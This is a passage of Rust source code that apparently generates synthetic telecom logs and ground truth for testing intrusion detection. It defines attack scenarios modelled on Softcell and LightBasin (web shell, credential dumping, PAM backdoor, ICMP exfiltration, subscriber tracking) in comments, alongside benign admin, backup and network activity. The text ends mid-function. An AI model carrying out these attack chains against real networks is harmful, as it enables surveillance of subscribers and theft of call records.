//! The operator's daily work and the attack scenarios, one day at a time.

use crate::{
    Day, ExfilFlow, LINUX_HOSTS, Rng, START, SimConfig, Step, Target, Truth, subscriber, ts,
};

/// Attack scenarios.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scenario {
    /// Web shell → credential dumping → lateral movement → new domain admin → targeted CDR,
    /// location and device reads → split archives → exfiltration in chunks through a relay.
    Softcell,
    /// A care agent looks up protected persons without a ticket.
    Insider,
    /// SSH into an outside-facing DNS server with a default account → PAM backdoor → GTP
    /// tunnel and ICMP channel → CDR and subscriber-profile reads with a shared account from
    /// that server → exfiltration over ICMP.
    Lightbasin,
    /// No attack (false-positive measurement).
    Benign,
    /// Location tracking over the signalling network: a foreign global title, a rogue
    /// Diameter realm and a compromised core host ask where chosen subscribers are
    /// (`network/signalling.pcap`).
    Tracking,
}

impl Scenario {
    /// A scenario by name (`softcell`, `insider`, `lightbasin`, `benign`, `tracking`).
    pub fn parse(s: &str) -> Option<Scenario> {
        match s.to_ascii_lowercase().as_str() {
            "softcell" => Some(Scenario::Softcell),
            "insider" => Some(Scenario::Insider),
            "lightbasin" => Some(Scenario::Lightbasin),
            "benign" => Some(Scenario::Benign),
            "tracking" => Some(Scenario::Tracking),
            _ => None,
        }
    }

    /// Its name.
    pub fn name(self) -> &'static str {
        match self {
            Scenario::Softcell => "softcell",
            Scenario::Insider => "insider",
            Scenario::Lightbasin => "lightbasin",
            Scenario::Benign => "benign",
            Scenario::Tracking => "tracking",
        }
    }
}

const DAY: i64 = 86_400;
const DOMAIN: &str = "corp.example";
/// Care agents at least, and one more per this many subscribers.
const CARE_MIN: usize = 12;
const SUBSCRIBERS_PER_AGENT: u64 = 5_000;
const BILL_DB: &str = "10.30.0.10";
const BACKUP: &str = "10.30.0.50";
const JUMP: &str = "10.20.0.5";
const ADMIN_WS: &str = "10.1.5.10";
/// The web portal the intruder enters through (named by no asset file: the logon records
/// that carry its workstation name and address tell it).
const WEB_PORTAL: &str = "10.10.0.8";
const OFFSITE: &str = "198.51.100.10";
const RELAY: &str = "203.0.113.66";
const DNS_EXT: &str = "10.40.0.53";
const HSS: &str = "10.40.0.20";
const LB_C2: &str = "198.51.100.77";
/// The automation server (Ansible runs from here).
const AUTOMATION: &str = "10.1.5.20";
/// Packet gateways and the MME (none of them in the asset file: their roles are learnt).
const PGW_POOL: [&str; 2] = ["10.50.0.10", "10.50.0.11"];
const MME_IP: &str = "10.40.0.30";
/// Roaming partners' gateways and Diameter edge agent.
const PARTNERS: [&str; 3] = ["198.18.10.1", "198.18.20.1", "198.18.30.1"];
/// Which Linux hosts write auditd's enriched format (the gateway does).
const ENRICHED: [bool; 3] = [false, true, false];

/// The kernel's name of a process running `exe` (its first 15 bytes).
fn comm_of(exe: &str) -> String {
    exe.rsplit('/')
        .next()
        .unwrap_or(exe)
        .chars()
        .take(15)
        .collect()
}

/// A PATH record (one file or folder a system call named).
fn path_record(item: u32, name: &str, inode: u32, mode: &str, nametype: &str) -> String {
    format!(
        "PATH item={item} name=\"{name}\" inode={inode} dev=fd:00 mode={mode} ouid=0 ogid=0 rdev=00:00 nametype={nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"
    )
}

/// How a file is written.
#[derive(Clone, Copy)]
enum Write<'a> {
    /// Opened to append.
    Append,
    /// Created (or truncated).
    Create,
    /// A new copy renamed over it from this path.
    RenameFrom(&'a str),
}

/// Workstation `k` (care agents first) in the office networks 10.1.x.0/24.
fn care_ip(k: usize) -> String {
    format!("10.1.{}.{}", k / 200, 20 + k % 200)
}

/// Names people's browsers and the servers look up (benign DNS).
const NAMES: [&str; 12] = [
    "www.example.com",
    "mail.corp.example",
    "intranet.corp.example",
    "login.microsoftonline.com",
    "update.vendor.example",
    "crl.pki.example",
    "e8731.dscb.akamaiedge.net",
    "d3k2n0x9f1q7ze.cloudfront.net",
    "ocsp.digicert.com",
    "api.weather.example",
    "news.example.org",
    "cdn.jsdelivr.net",
];

fn json_str(s: &str) -> String {
    serde_json::Value::String(s.to_owned()).to_string()
}

/// The simulated operator's state across days.
pub(crate) struct World {
    seed: u64,
    subscribers: u64,
    days: u32,
    scenarios: Vec<Scenario>,
    /// Care agents (workload grows with the subscriber base).
    agents: usize,
    rng: Rng,
    /// The core network hosts' own stream, so their activity leaves the others' draws as
    /// they were.
    core_rng: Rng,
    record: u64,
    uid: u64,
    /// Subscriber indexes of the protected persons (watchlist) and the attack's targets.
    protected: Vec<(u64, &'static str)>,
    targets: Vec<u64>,
    attack_day: u32,
}

impl World {
    pub fn new(c: &SimConfig) -> World {
        let mut rng = Rng::new(c.seed);
        let n = c.subscribers.max(100);
        let labels = [
            "Minister of Defence",
            "Chief of the General Staff",
            "Investigating judge",
            "Opposition leader",
            "Intelligence liaison",
        ];
        let protected: Vec<(u64, &'static str)> =
            labels.iter().map(|l| (rng.below(n), *l)).collect();
        let count = 15 + rng.below(16);
        let mut targets = Vec::new();
        while (targets.len() as u64) < count {
            let t = rng.below(n);
            if !targets.contains(&t) && !protected.iter().any(|(p, _)| *p == t) {
                targets.push(t);
            }
        }
        World {
            seed: c.seed,
            subscribers: n,
            days: c.days.max(1),
            scenarios: c.scenarios.clone(),
            agents: CARE_MIN.max((n / SUBSCRIBERS_PER_AGENT) as usize),
            rng,
            core_rng: Rng::new(c.seed ^ 0x636f_7265),
            record: 1000,
            uid: 0,
            protected,
            targets,
            attack_day: (c.days / 3).max(1),
        }
    }

    /// Protected persons for the watchlist: (MSISDN, label).
    pub fn protected(&self) -> Vec<(String, &'static str)> {
        self.protected
            .iter()
            .map(|(i, l)| (subscriber(self.seed, *i).msisdn, *l))
            .collect()
    }

    fn has(&self, s: Scenario) -> bool {
        self.scenarios.contains(&s)
    }

    fn sub(&self, i: u64) -> crate::Subscriber {
        subscriber(self.seed, i)
    }

    /// Subscriber `i` as a target of `s` in the ground truth.
    fn target(&self, s: Scenario, i: u64) -> Target {
        let x = self.sub(i);
        Target {
            scenario: s.name().into(),
            msisdn: x.msisdn,
            imsi: x.imsi,
            imei: x.imei,
        }
    }

    // --- Writers -----------------------------------------------------------------------------

    #[allow(clippy::too_many_arguments)]
    fn windows(
        &mut self,
        day: &mut Day,
        t: i64,
        host: &str,
        channel: &str,
        provider: &str,
        eid: u32,
        data: &[(&str, &str)],
    ) {
        self.record += 1;
        let ed: Vec<String> = data
            .iter()
            .map(|(k, v)| format!("{}:{}", json_str(k), json_str(v)))
            .collect();
        let line = format!(
            r##"{{"Event":{{"System":{{"Provider":{{"#attributes":{{"Name":{}}}}},"EventID":{eid},"TimeCreated":{{"#attributes":{{"SystemTime":"{}"}}}},"EventRecordID":{},"Channel":{},"Computer":"{host}.{DOMAIN}"}},"EventData":{{{}}}}}}}"##,
            json_str(provider),
            ts(t, 0),
            self.record,
            json_str(channel),
            ed.join(",")
        );
        day.windows.push((t, self.record as u32, line));
    }

    /// A network logon (Security 4624, type 3, NTLM) on the billing server from `workstation`
    /// at `ip`: what PsExec and WMI leave on their target before they run anything.
    fn network_logon(&mut self, day: &mut Day, t: i64, account: &str, workstation: &str, ip: &str) {
        let port = (49_152 + (t % 16_000)).to_string();
        self.windows(
            day,
            t,
            "bill-db-01",
            "Security",
            "Microsoft-Windows-Security-Auditing",
            4624,
            &[
                ("SubjectUserSid", "S-1-0-0"),
                ("SubjectUserName", "-"),
                ("TargetUserName", account),
                ("TargetDomainName", "CORP"),
                ("LogonType", "3"),
                ("LogonProcessName", "NtLmSsp "),
                ("AuthenticationPackageName", "NTLM"),
                ("WorkstationName", workstation),
                ("IpAddress", ip),
                ("IpPort", &port),
            ],
        );
    }

    /// PsExec's service on the billing server (System 7045), from `image`.
    fn psexec_service(&mut self, day: &mut Day, t: i64, image: &str) {
        self.windows(
            day,
            t,
            "bill-db-01",
            "System",
            "Service Control Manager",
            7045,
            &[
                ("ServiceName", "PSEXESVC"),
                ("ImagePath", image),
                ("ServiceType", "user mode service"),
                ("StartType", "demand start"),
                ("AccountName", "LocalSystem"),
            ],
        );
    }

    #[allow(clippy::too_many_arguments)]
    fn process(
        &mut self,
        day: &mut Day,
        t: i64,
        host: &str,
        user: &str,
        image: &str,
        cmd: &str,
        parent: &str,
    ) {
        self.windows(
            day,
            t,
            host,
            "Microsoft-Windows-Sysmon/Operational",
            "Microsoft-Windows-Sysmon",
            1,
            &[
                ("Image", image),
                ("CommandLine", cmd),
                ("ParentImage", parent),
                ("User", user),
            ],
        );
    }

    #[allow(clippy::too_many_arguments)]
    fn pg(
        &mut self,
        day: &mut Day,
        t: i64,
        user: &str,
        app: &str,
        client: &str,
        sql: &str,
        param: &str,
        rows: Option<u64>,
    ) {
        self.record += 1;
        let body = format!("\"{}\"", sql.replace('"', "\"\""));
        let rows = rows.map(|r| format!(",{r}")).unwrap_or_default();
        let param = if param.is_empty() {
            "<not logged>"
        } else {
            param
        };
        let line = format!(
            "{} UTC [{}]: [1-1] user={user},db=billing,app={app},client={client} LOG:  AUDIT: SESSION,1,1,READ,SELECT,,,{body},{param}{rows}",
            ts(t, 0).replace('T', " ").trim_end_matches('Z'),
            4000 + self.record % 5000
        );
        day.pg.push((t, self.record as u32, line));
    }

    fn mysql(&mut self, day: &mut Day, t: i64, user: &str, ip: &str, query: &str) {
        self.record += 1;
        let v = serde_json::json!({
            "timestamp": ts(t, 0).replace('T', " ").trim_end_matches('Z').get(..19).unwrap_or(""),
            "id": self.record, "class": "general", "event": "status",
            "connection_id": self.record % 997,
            "account": {"user": user, "host": ip},
            "login": {"user": user, "os": "", "ip": ip, "proxy": ""},
            "general_data": {"command": "Query", "sql_command": "select", "query": query, "status": 0}
        });
        day.mysql.push((t, self.record as u32, v.to_string()));
    }

    #[allow(clippy::too_many_arguments)]
    fn conn(
        &mut self,
        day: &mut Day,
        t: i64,
        src: &str,
        dst: &str,
        port: u16,
        service: &str,
        dur: f64,
        out: u64,
    ) {
        self.flow(day, t, (src, dst, port, "tcp"), service, dur, out);
    }

    /// One Zeek conn.log row: (source, destination, destination port, protocol).
    fn flow(
        &mut self,
        day: &mut Day,
        t: i64,
        (src, dst, port, proto): (&str, &str, u16, &str),
        service: &str,
        dur: f64,
        out: u64,
    ) {
        self.uid += 1;
        let service = if service.is_empty() { "-" } else { service };
        let line = format!(
            "{t}.{:06}\tS{:x}\t{src}\t{}\t{dst}\t{port}\t{proto}\t{service}\t{dur:.3}\t{out}\t{}\tSF\t{}\t{}",
            self.uid % 1_000_000,
            self.uid,
            40000 + self.uid % 20000,
            out / 50 + 200,
            out / 1400 + 1,
            out / 20000 + 1
        );
        day.conn.push((t, self.uid as u32, line));
    }

    /// One line of a host's auth.log as rsyslog writes it (RFC 3164: no year).
    fn syslog(&mut self, day: &mut Day, h: usize, t: i64, app: &str, pid: u32, msg: &str) {
        self.record += 1;
        let stamp = jiff::Timestamp::from_second(t)
            .map(|x| x.strftime("%b %e %H:%M:%S").to_string())
            .unwrap_or_default();
        // sudo writes no pid.
        let line = if pid == 0 {
            format!("{stamp} {} {app}: {msg}", LINUX_HOSTS[h])
        } else {
            format!("{stamp} {} {app}[{pid}]: {msg}", LINUX_HOSTS[h])
        };
        day.auth[h].push((t, self.record as u32, line));
    }

    /// One Zeek dns.log row: a query and its answer.
    fn dns(
        &mut self,
        day: &mut Day,
        t: i64,
        (src, resolver): (&str, &str),
        query: &str,
        qtype: &str,
        answer: &str,
    ) {
        self.uid += 1;
        let code = match qtype {
            "A" => 1,
            "TXT" => 16,
            "AAAA" => 28,
            _ => 255,
        };
        let line = format!(
            "{t}.{:06}\tD{:x}\t{src}\t{}\t{resolver}\t53\tudp\t{}\t0.{:06}\t{query}\t1\tC_INTERNET\t{code}\t{qtype}\t0\tNOERROR\tF\tF\tT\tT\t0\t{answer}\t300.000000\tF",
            self.uid % 1_000_000,
            self.uid,
            30000 + self.uid % 30000,
            self.uid % 65536,
            20_000 + self.uid % 80_000,
        );
        day.dns.push((t, self.uid as u32, line));
    }

    /// One auditd event of host `h`: its records (type first; what follows a GS character is
    /// the enriched part, kept only where the host writes `log_format = ENRICHED`), then EOE.
    /// No `node=`: the host is the folder's.
    fn audit(&mut self, day: &mut Day, h: usize, t: i64, records: &[String]) {
        self.record += 1;
        let id = format!("audit({t}.{:03}:{})", self.record % 1000, self.record);
        let mut text = Vec::new();
        for r in records {
            let (ty, rest) = r.split_once(' ').unwrap_or((r, ""));
            let rest = if ENRICHED[h] {
                rest
            } else {
                rest.split('\x1d').next().unwrap_or(rest)
            };
            text.push(format!("type={ty} msg={id}: {rest}"));
        }
        text.push(format!("type=EOE msg={id}: "));
        day.audit[h].push((t, self.record as u32, text.join("\n")));
    }

    /// A SYSCALL record of an x86_64 host (enriched part after the GS character).
    #[allow(clippy::too_many_arguments)]
    fn syscall(
        (nr, name): (u32, &str),
        args: [&str; 4],
        items: u32,
        (pid, ppid): (u32, u32),
        (auid, account): (u32, &str),
        ses: u32,
        comm: &str,
        exe: &str,
    ) -> String {
        let [a0, a1, a2, a3] = args;
        format!(
            "SYSCALL arch=c000003e syscall={nr} success=yes exit=0 a0={a0} a1={a1} a2={a2} a3={a3} items={items} ppid={ppid} pid={pid} auid={auid} uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses={ses} comm=\"{comm}\" exe=\"{exe}\" key=(null)\x1dARCH=x86_64 SYSCALL={name} AUID=\"{account}\" UID=\"root\" GID=\"root\""
        )
    }

    /// A process start: SYSCALL (execve), EXECVE, CWD, PATH and PROCTITLE records.
    #[allow(clippy::too_many_arguments)]
    fn exec(
        &mut self,
        day: &mut Day,
        h: usize,
        t: i64,
        (pid, ppid): (u32, u32),
        login: (u32, &str),
        ses: u32,
        exe: &str,
        argv: &[&str],
    ) {
        let comm = comm_of(exe);
        let args: Vec<String> = argv
            .iter()
            .enumerate()
            .map(|(i, a)| format!("a{i}=\"{a}\""))
            .collect();
        let title: String = argv
            .join("\0")
            .bytes()
            .map(|b| format!("{b:02X}"))
            .collect();
        self.audit(
            day,
            h,
            t,
            &[
                Self::syscall(
                    (59, "execve"),
                    ["55d0c6e1a0", "55d0c6e1b0", "55d0c6e1c0", "0"],
                    2,
                    (pid, ppid),
                    login,
                    ses,
                    &comm,
                    exe,
                ),
                format!("EXECVE argc={} {}", argv.len(), args.join(" ")),
                "CWD cwd=\"/\"".to_owned(),
                path_record(0, exe, 393, "0100755", "NORMAL"),
                format!("PROCTITLE proctitle={title}"),
            ],
        );
    }

    /// A file written, as auditd records it: opened to create, truncate or append
    /// (`openat` with its flags), or a new copy renamed into place (`rename`).
    #[allow(clippy::too_many_arguments)]
    fn write_file(
        &mut self,
        day: &mut Day,
        h: usize,
        t: i64,
        proc_: (u32, u32),
        login: (u32, &str),
        ses: u32,
        exe: &str,
        path: &str,
        how: Write<'_>,
    ) {
        let comm = comm_of(exe);
        let (dir, name) = path.rsplit_once('/').unwrap_or(("", path));
        let dir = format!("{dir}/");
        let records = match how {
            Write::Append | Write::Create => {
                let (flags, kind) = match how {
                    Write::Append => ("441", "NORMAL"),
                    _ => ("241", "CREATE"),
                };
                vec![
                    Self::syscall(
                        (257, "openat"),
                        ["ffffff9c", "7ffd3c2e5a10", flags, "1a4"],
                        2,
                        proc_,
                        login,
                        ses,
                        &comm,
                        exe,
                    ),
                    "CWD cwd=\"/\"".to_owned(),
                    path_record(0, &dir, 131, "040755", "PARENT"),
                    path_record(1, name, 4242, "0100644", kind),
                ]
            }
            Write::RenameFrom(from) => {
                let (fdir, _) = from.rsplit_once('/').unwrap_or(("", from));
                vec![
                    Self::syscall(
                        (82, "rename"),
                        ["7ffd3c2e5a10", "7ffd3c2e5a90", "0", "0"],
                        4,
                        proc_,
                        login,
                        ses,
                        &comm,
                        exe,
                    ),
                    "CWD cwd=\"/\"".to_owned(),
                    path_record(0, &format!("{fdir}/"), 131, "040755", "PARENT"),
                    path_record(1, &dir, 131, "040755", "PARENT"),
                    path_record(2, from, 4243, "0100644", "DELETE"),
                    path_record(3, path, 4243, "0100644", "CREATE"),
                ]
            }
        };
        self.audit(day, h, t, &records);
    }

    /// An SSH login: sshd's line in auth.log and its PAM session record in audit.log (the
    /// session's login uid and the account it belongs to).
    #[allow(clippy::too_many_arguments)]
    fn ssh_login(
        &mut self,
        day: &mut Day,
        h: usize,
        t: i64,
        sshd: u32,
        (uid, user): (u32, &str),
        ses: u32,
        from: &str,
        method: &str,
    ) {
        let tail = if method == "publickey" {
            ": ED25519 SHA256:q3Yx0c1mNn4Vx8s7Zl0Rk2tJb5mYf9wQe1uPa6hDz0E"
        } else {
            ""
        };
        self.syslog(
            day,
            h,
            t,
            "sshd",
            sshd,
            &format!(
                "Accepted {method} for {user} from {from} port {} ssh2{tail}",
                40000 + sshd % 20000
            ),
        );
        self.audit(day, h, t + 1, &[format!(
            "USER_START pid={sshd} uid=0 auid={uid} ses={ses} subj=unconfined msg='op=PAM:session_open grantors=pam_selinux,pam_loginuid,pam_keyinit,pam_permit,pam_umask,pam_unix,pam_systemd,pam_mail,pam_limits,pam_env acct=\"{user}\" exe=\"/usr/sbin/sshd\" hostname={from} addr={from} terminal=ssh res=success'\x1dUID=\"root\" AUID=\"{user}\""
        )]);
    }

    /// Everyday work on the core network's Linux hosts: admins who log in with their own
    /// accounts and only list firewall rules, Ansible applying firewall rules and deploying
    /// SSH keys on the gateway, Puppet managing sshd and cron on the MME, package upgrades
    /// replacing PAM modules; and the gateways' GTP and Diameter traffic with roaming partners.
    fn core_hosts(&mut self, d: u32, base: i64, day: &mut Day) {
        const PGW: usize = 1;
        const MME: usize = 2;
        let p = 3000 + d * 40;
        // An admin lists the gateway's and the MME's firewall rules.
        for (h, list) in [
            (PGW, &["iptables", "-L", "-n", "-v"][..]),
            (MME, &["nft", "list", "ruleset"][..]),
        ] {
            let t = base + 9 * 3600 + self.core_rng.range(0, 3600) + h as i64 * 60;
            let p = p + h as u32 * 10;
            let ses = 100 + d * 3 + h as u32;
            self.ssh_login(day, h, t, p, (1003, "netops"), ses, ADMIN_WS, "publickey");
            self.exec(
                day,
                h,
                t + 2,
                (p + 1, p),
                (1003, "netops"),
                ses,
                "/usr/bin/bash",
                &["-bash"],
            );
            let cmd = format!("/usr/sbin/{}", list.join(" "));
            self.syslog(
                day,
                h,
                t + 30,
                "sudo",
                p + 2,
                &format!("  netops : TTY=pts/0 ; PWD=/home/netops ; USER=root ; COMMAND={cmd}"),
            );
            self.exec(
                day,
                h,
                t + 30,
                (p + 2, p + 1),
                (1003, "netops"),
                ses,
                "/usr/bin/sudo",
                &[&["sudo"][..], list].concat(),
            );
            let exe = if list[0] == "nft" {
                "/usr/sbin/nft"
            } else {
                "/usr/sbin/xtables-nft-multi"
            };
            self.exec(
                day,
                h,
                t + 31,
                (p + 3, p + 2),
                (1003, "netops"),
                ses,
                exe,
                list,
            );
        }
        // Ansible at night on the gateway: GTP-C and monitoring pings allowed, the rules saved,
        // and every third day the admins' SSH keys deployed.
        let t = base + 2 * 3600 + self.core_rng.range(0, 600);
        let ses = 200 + d;
        let (sshd, sh, py) = (p + 20, p + 21, p + 22);
        self.ssh_login(
            day,
            PGW,
            t,
            sshd,
            (1010, "ansible"),
            ses,
            AUTOMATION,
            "publickey",
        );
        self.exec(day, PGW, t + 1, (sh, sshd), (1010, "ansible"), ses, "/usr/bin/dash", &["/bin/sh", "-c", "sudo -H -S -n -u root /bin/sh -c 'echo BECOME-SUCCESS; /usr/bin/python3 /root/.ansible/tmp/ansible-tmp/AnsiballZ_iptables.py'"]);
        self.exec(
            day,
            PGW,
            t + 2,
            (py, sh),
            (1010, "ansible"),
            ses,
            "/usr/bin/python3.11",
            &[
                "/usr/bin/python3",
                "/root/.ansible/tmp/ansible-tmp/AnsiballZ_iptables.py",
            ],
        );
        let rule: &[&str] = if d.is_multiple_of(2) {
            &[
                "/usr/sbin/iptables",
                "-t",
                "filter",
                "-A",
                "INPUT",
                "-p",
                "udp",
                "--dport",
                "2123",
                "-j",
                "ACCEPT",
            ]
        } else {
            &[
                "/usr/sbin/iptables",
                "-t",
                "filter",
                "-A",
                "INPUT",
                "-p",
                "icmp",
                "-s",
                "10.1.5.0/24",
                "-j",
                "ACCEPT",
            ]
        };
        self.exec(
            day,
            PGW,
            t + 3,
            (py + 1, py),
            (1010, "ansible"),
            ses,
            "/usr/sbin/xtables-nft-multi",
            rule,
        );
        self.write_file(
            day,
            PGW,
            t + 4,
            (py, sh),
            (1010, "ansible"),
            ses,
            "/usr/bin/python3.11",
            "/etc/iptables/rules.v4",
            Write::RenameFrom("/root/.ansible/tmp/ansible-tmp/tmprules"),
        );
        if d.is_multiple_of(3) {
            self.exec(
                day,
                PGW,
                t + 10,
                (py + 2, sh),
                (1010, "ansible"),
                ses,
                "/usr/bin/python3.11",
                &[
                    "/usr/bin/python3",
                    "/root/.ansible/tmp/ansible-tmp/AnsiballZ_authorized_key.py",
                ],
            );
            self.write_file(
                day,
                PGW,
                t + 11,
                (py + 2, sh),
                (1010, "ansible"),
                ses,
                "/usr/bin/python3.11",
                "/home/netops/.ssh/authorized_keys",
                Write::RenameFrom("/home/netops/.ssh/.ansible_tmpk2"),
            );
        }
        // Puppet's agent on the MME every morning: sshd's configuration and a cron job kept in
        // their managed state.
        let t = base + 6 * 3600 + self.core_rng.range(0, 600);
        let agent = 1500 + d;
        self.exec(
            day,
            MME,
            t,
            (agent, 1),
            (u32::MAX, "unset"),
            u32::MAX,
            "/opt/puppetlabs/puppet/bin/ruby",
            &[
                "/opt/puppetlabs/puppet/bin/ruby",
                "/opt/puppetlabs/puppet/bin/puppet",
                "agent",
                "--onetime",
                "--no-daemonize",
            ],
        );
        self.write_file(
            day,
            MME,
            t + 20,
            (agent, 1),
            (u32::MAX, "unset"),
            u32::MAX,
            "/opt/puppetlabs/puppet/bin/ruby",
            "/etc/ssh/sshd_config",
            Write::RenameFrom("/etc/ssh/.puppettmp_4242"),
        );
        self.write_file(
            day,
            MME,
            t + 21,
            (agent, 1),
            (u32::MAX, "unset"),
            u32::MAX,
            "/opt/puppetlabs/puppet/bin/ruby",
            "/etc/cron.d/puppet-report",
            Write::Create,
        );
        // Weekly unattended upgrades on the MME: a new libpam-modules replaces the PAM modules.
        if d % 7 == 2 {
            let t = base + 6 * 3600 + 1800;
            let (uu, dpkg) = (p + 30, p + 31);
            self.exec(
                day,
                MME,
                t,
                (uu, 1),
                (u32::MAX, "unset"),
                u32::MAX,
                "/usr/bin/python3.11",
                &["/usr/bin/python3", "/usr/bin/unattended-upgrade"],
            );
            self.exec(
                day,
                MME,
                t + 5,
                (dpkg, uu),
                (u32::MAX, "unset"),
                u32::MAX,
                "/usr/bin/dpkg",
                &[
                    "/usr/bin/dpkg",
                    "--status-fd",
                    "3",
                    "--unpack",
                    "/var/cache/apt/archives/libpam-modules_1.5.2-6+deb12u2_amd64.deb",
                ],
            );
            for m in ["pam_unix.so", "pam_permit.so", "pam_limits.so"] {
                let dst = format!("/usr/lib/x86_64-linux-gnu/security/{m}");
                self.write_file(
                    day,
                    MME,
                    t + 6,
                    (dpkg, uu),
                    (u32::MAX, "unset"),
                    u32::MAX,
                    "/usr/bin/dpkg",
                    &dst,
                    Write::RenameFrom(&format!("{dst}.dpkg-new")),
                );
            }
        }
        // The gateways carry subscribers' traffic to two roaming partners' gateways (GTP-U in
        // large flows both ways, GTP-C echoes every hour); the MME asks a partner's Diameter
        // edge agent about roaming subscribers over one long connection.
        for (pgw, partner) in [(PGW_POOL[0], PARTNERS[0]), (PGW_POOL[1], PARTNERS[1])] {
            for k in 0..6 {
                let t = base + k * 4 * 3600 + self.core_rng.range(0, 600);
                let up = (400 << 20) + self.core_rng.below(300 << 20);
                let down = (600 << 20) + self.core_rng.below(400 << 20);
                self.flow(day, t, (pgw, partner, 2152, "udp"), "gtpv1", 3500.0, up);
                self.flow(
                    day,
                    t + 2,
                    (partner, pgw, 2152, "udp"),
                    "gtpv1",
                    3500.0,
                    down,
                );
            }
            for k in 0..24 {
                self.flow(
                    day,
                    base + k * 3600 + 17,
                    (pgw, partner, 2123, "udp"),
                    "gtpv1",
                    0.01,
                    48,
                );
            }
        }
        let t = base + 60;
        let bytes = (40 << 20) + self.core_rng.below(20 << 20);
        self.flow(
            day,
            t,
            (MME_IP, PARTNERS[2], 3868, "tcp"),
            "",
            86_000.0,
            bytes,
        );
    }

    // --- A day -------------------------------------------------------------------------------

    pub fn day(&mut self, d: u32, day: &mut Day, truth: &mut Truth) {
        let base = START + d as i64 * DAY;
        self.benign(d, base, day);
        if self.has(Scenario::Softcell) {
            self.softcell(d, base, day, truth);
        }
        if self.has(Scenario::Insider) {
            self.insider(d, base, day, truth);
        }
        if self.has(Scenario::Lightbasin) {
            self.lightbasin(d, base, day, truth);
        }
    }

    fn benign(&mut self, d: u32, base: i64, day: &mut Day) {
        self.core_hosts(d, base, day);
        let n = self.subscribers;
        // Customer care: CRM lookups, then the customer's recent calls, in office hours.
        for k in 0..self.agents {
            let user = format!("care{:02}", k + 1);
            let ip = care_ip(k);
            for _ in 0..25 {
                let t = base + self.rng.range(8 * 3600, 17 * 3600);
                let mut i = self.rng.below(n);
                // Protected persons are looked up only in the insider scenario.
                while self.protected.iter().any(|(p, _)| *p == i) {
                    i = self.rng.below(n);
                }
                let s = self.sub(i);
                self.mysql(
                    day,
                    t,
                    &user,
                    &ip,
                    &format!("SELECT * FROM customer WHERE msisdn = '{}'", s.msisdn),
                );
                if self.rng.below(3) == 0 {
                    self.pg(day, t + 40, &user, "crm-web", &ip, "SELECT call_start, called_number, duration FROM cdr WHERE calling_number = $1 ORDER BY call_start DESC LIMIT 20", &s.msisdn, Some(20));
                }
            }
        }
        // Billing: the nightly rating run reads the whole previous day.
        let date = ts(base - DAY, 0);
        let rows = 20 * n + self.rng.below(n);
        self.pg(
            day,
            base + 2 * 3600,
            "rating",
            "rater",
            "10.30.0.30",
            "SELECT * FROM cdr WHERE call_start >= $1 AND call_start < $1::date + 1",
            date.get(..10).unwrap_or(""),
            Some(rows),
        );
        // Reporting: figures, not records.
        self.pg(
            day,
            base + 6 * 3600,
            "report",
            "reporter",
            "10.30.0.31",
            "SELECT count(*), sum(duration) FROM cdr WHERE call_start::date = current_date - 1",
            "",
            Some(1),
        );
        // Nightly backup: pg_dump copies the tables to standard output, then offsite.
        for (k, table) in ["public.cdr", "public.cell_location", "public.device"]
            .iter()
            .enumerate()
        {
            self.pg(
                day,
                base + 3600 + k as i64 * 300,
                "backup",
                "pg_dump",
                BACKUP,
                &format!("COPY {table} TO STDOUT"),
                "",
                None,
            );
        }
        let size = (40u64 << 30) + self.rng.below(1 << 28);
        self.conn(
            day,
            base + 3600 + 1200,
            BACKUP,
            OFFSITE,
            443,
            "ssl",
            2400.0,
            size,
        );
        // DBA maintenance from the admin workstation.
        if d.is_multiple_of(2) {
            self.pg(
                day,
                base + 10 * 3600 + 600,
                "dba_jane",
                "psql",
                ADMIN_WS,
                "VACUUM ANALYZE cdr",
                "",
                None,
            );
        }
        // Workstations browsing (each connection after a lookup at the DNS server); the
        // billing server fetching updates.
        for w in 0..(self.agents + 6) {
            let ip = care_ip(w);
            for _ in 0..20 {
                let t = base + self.rng.range(8 * 3600, 18 * 3600);
                let dst = format!("93.184.{}.{}", self.rng.below(4), 1 + self.rng.below(60));
                let out = 5_000 + self.rng.below(300_000);
                let name = NAMES[self.rng.below(NAMES.len() as u64) as usize];
                self.dns(day, t - 1, (&ip, DNS_EXT), name, "A", &dst);
                self.conn(day, t, &ip, &dst, 443, "ssl", 2.0, out);
            }
        }
        let upd = 3_000_000 + self.rng.below(2_000_000);
        self.conn(
            day,
            base + 5 * 3600,
            BILL_DB,
            "203.0.113.1",
            443,
            "ssl",
            4.0,
            upd,
        );
        // Admins: PsExec to a server once a week, ipconfig now and then.
        if d % 7 == 3 {
            let t = base + 14 * 3600;
            self.network_logon(day, t - 2, "adm_paul", "ADM-01", ADMIN_WS);
            self.psexec_service(day, t, "%SystemRoot%\\PSEXESVC.exe");
        }
        let t = base + 9 * 3600 + self.rng.range(0, 3600);
        self.process(
            day,
            t,
            "adm-01",
            "CORP\\adm_paul",
            "C:\\Windows\\System32\\ipconfig.exe",
            "ipconfig /all",
            "C:\\Windows\\System32\\cmd.exe",
        );
        // The outside-facing DNS server: the ops team logs in with keys and updates packages
        // (now and then a new libpam-modules among them).
        let t = base + 9 * 3600 + self.rng.range(0, 1800);
        let pid = 1200 + d * 8;
        let ses = 300 + d;
        let ops = (1002, "ops");
        self.ssh_login(day, 0, t, pid, ops, ses, ADMIN_WS, "publickey");
        self.exec(
            day,
            0,
            t + 2,
            (pid + 1, pid),
            ops,
            ses,
            "/usr/bin/bash",
            &["-bash"],
        );
        self.syslog(
            day,
            0,
            t + 60,
            "sudo",
            0,
            "     ops : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=/usr/bin/apt-get -y upgrade",
        );
        self.exec(
            day,
            0,
            t + 60,
            (pid + 2, pid + 1),
            ops,
            ses,
            "/usr/bin/sudo",
            &["sudo", "apt-get", "-y", "upgrade"],
        );
        self.exec(
            day,
            0,
            t + 70,
            (pid + 3, pid + 2),
            ops,
            ses,
            "/usr/bin/apt-get",
            &["apt-get", "-y", "upgrade"],
        );
        if d % 5 == 1 {
            self.exec(
                day,
                0,
                t + 80,
                (pid + 4, pid + 3),
                ops,
                ses,
                "/usr/bin/dpkg",
                &[
                    "/usr/bin/dpkg",
                    "--status-fd",
                    "35",
                    "--unpack",
                    "--auto-deconfigure",
                    "/var/cache/apt/archives/libpam-modules_1.5.2-6+deb12u2_amd64.deb",
                ],
            );
            let dst = "/lib/x86_64-linux-gnu/security/pam_unix.so";
            self.write_file(
                day,
                0,
